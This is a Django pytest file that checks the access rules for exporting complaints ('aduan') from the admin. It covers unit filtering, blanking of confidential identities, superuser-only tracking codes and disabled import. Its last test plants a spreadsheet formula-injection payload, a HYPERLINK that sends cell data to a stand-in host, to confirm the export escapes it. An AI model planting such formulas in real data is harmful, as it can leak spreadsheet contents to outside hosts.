"""Exporting complaints from the admin follows the staff pages' rules: a staff user who is
not a superuser exports only the complaints they may open, a confidential complaint's
identity is blank for the OPD lanes, and the tracking code goes to superusers only.
Complaints are never imported."""

import pytest
from django.contrib.auth.models import Permission
from django.urls import NoReverseMatch, reverse

from aduan.models import Aduan
from sop import services as engine
from tests.factories import AduanFactory, UnitFactory, UserFactory
from tests.impor_ekspor import baca_csv, ekspor

pytestmark = pytest.mark.django_db

IDENTITAS = ("nama pengadu", "e-mail", "telepon/WhatsApp")


@pytest.fixture
def cases(aduan_sop):
    pu, dinkes = UnitFactory(nama="Dinas Pekerjaan Umum"), UnitFactory(nama="Dinas Kesehatan")
    return {
        "rahasia_pu": engine.start(AduanFactory(unit=pu, rahasia=True, nama="Rahmat", email="r@contoh.id")),
        "biasa_pu": engine.start(AduanFactory(unit=pu, nama="Siti Aminah")),
        "dinkes": engine.start(AduanFactory(unit=dinkes, uraian="Antrean puskesmas mengular sampai siang.")),
        "anonim": engine.start(AduanFactory(anonim=True, uraian="Pungutan liar di loket pasar.")),
        "units": (pu, dinkes),
    }


def _staff(client, username, lanes=None, units=()):
    user = UserFactory(username=username, is_staff=True, lanes=lanes, units=units)
    user.user_permissions.add(Permission.objects.get(codename="view_aduan"))
    client.force_login(user)
    return user


def _by_uraian(rows):
    return {r["uraian aduan"][:20]: r for r in rows}


def test_an_opd_officer_exports_only_their_units_complaints_without_codes_or_confidential_identity(client, cases):
    pu, _ = cases["units"]
    _staff(client, "opd_pu", lanes=("DMK-ADUAN", "opd_bumd"), units=[pu])
    rows = baca_csv(ekspor(client, Aduan))
    assert "kode lacak" not in rows[0]
    assert len(rows) == 2
    by_name = {r["nama pengadu"]: r for r in rows}
    assert set(by_name) == {"", "Siti Aminah"}
    hidden = by_name[""]
    assert (hidden["rahasia"], hidden["e-mail"], hidden["telepon/WhatsApp"]) == ("ya", "", "")
    assert all(r["OPD/unit tujuan"] == "Dinas Pekerjaan Umum" for r in rows)
    assert by_name["Siti Aminah"]["telepon/WhatsApp"] == "081234567890"
    assert all(r["tahap"] == "Aduan masuk" and r["batas waktu langkah"] for r in rows)
    page = client.get(reverse("admin:aduan_aduan_export")).content.decode()
    assert "kode lacak" not in page, page[page.find("kode lacak") - 300:page.find("kode lacak") + 100]
    assert "uraian aduan" in page
    # The codes are nowhere in the file, not only absent from a column.
    content = ekspor(client, Aduan).content.decode()
    assert not any(case.kode in content for case in Aduan.objects.all())


def test_the_admin_list_shows_the_same_complaints_as_the_export(client, cases):
    pu, _ = cases["units"]
    _staff(client, "opd_pu", lanes=("DMK-ADUAN", "opd_bumd"), units=[pu])
    page = client.get(reverse("admin:aduan_aduan_changelist"))
    assert {a.pk for a in page.context["cl"].result_list} == {cases["rahasia_pu"].pk, cases["biasa_pu"].pk}
    assert client.get(reverse("admin:aduan_aduan_change", args=[cases["dinkes"].pk])).status_code == 302


def test_the_admin_koordinator_sees_every_complaint_and_confidential_identities(client, cases):
    _staff(client, "admin_k", lanes=("DMK-ADUAN", "admin_koordinator"))
    rows = baca_csv(ekspor(client, Aduan))
    assert len(rows) == 4 and "kode lacak" not in rows[0]
    names = sorted(r["nama pengadu"] for r in rows)
    assert names == ["", "Rahmat", "Siti Aminah", "Siti Aminah"]
    anonim = _by_uraian(rows)["Pungutan liar di lok"]
    assert [anonim[c] for c in IDENTITAS] == ["", "", ""]  # stored empty: nothing to give


def test_a_staff_user_in_no_lane_of_the_sop_exports_nothing(client, cases):
    _staff(client, "pemantau", lanes=("CRB-OPINI", "pemantau"))
    response = ekspor(client, Aduan)
    assert response.content.decode("utf-8-sig").strip().splitlines()[1:] == []


def test_a_superuser_exports_every_complaint_with_its_tracking_code(client, cases):
    client.force_login(UserFactory(username="root", is_staff=True, is_superuser=True))
    rows = baca_csv(ekspor(client, Aduan))
    assert sorted(r["kode lacak"] for r in rows) == sorted(Aduan.objects.values_list("kode", flat=True))
    assert {r["nama pengadu"] for r in rows} >= {"Rahmat"}


def test_complaints_cannot_be_imported(client, cases):
    with pytest.raises(NoReverseMatch):
        reverse("admin:aduan_aduan_import")


def test_the_resource_itself_filters_whatever_queryset_it_is_handed(cases):
    from aduan.resources import AduanResource

    pu, _ = cases["units"]
    opd = UserFactory(username="opd_pu", lanes=("DMK-ADUAN", "opd_bumd"), units=[pu])
    dataset = AduanResource(user=opd).export(queryset=Aduan.objects.all())
    assert len(dataset) == 2
    assert len(AduanResource(user=None).export(queryset=Aduan.objects.all())) == 0


def test_a_complaint_written_as_a_formula_is_exported_as_text(client, aduan_sop):
    import io

    import openpyxl

    from tests.impor_ekspor import XLSX

    engine.start(AduanFactory(uraian='=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")\x07 lampu mati'))
    client.force_login(UserFactory(username="root", is_staff=True, is_superuser=True))
    (row,) = baca_csv(ekspor(client, Aduan))
    assert row["uraian aduan"].startswith("'=HYPERLINK(")
    sheet = openpyxl.load_workbook(io.BytesIO(ekspor(client, Aduan, fmt=XLSX).content)).active
    headers = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=headers.index("uraian aduan") + 1)
    assert cell.data_type == "s" and cell.value.startswith("'=HYPERLINK(")
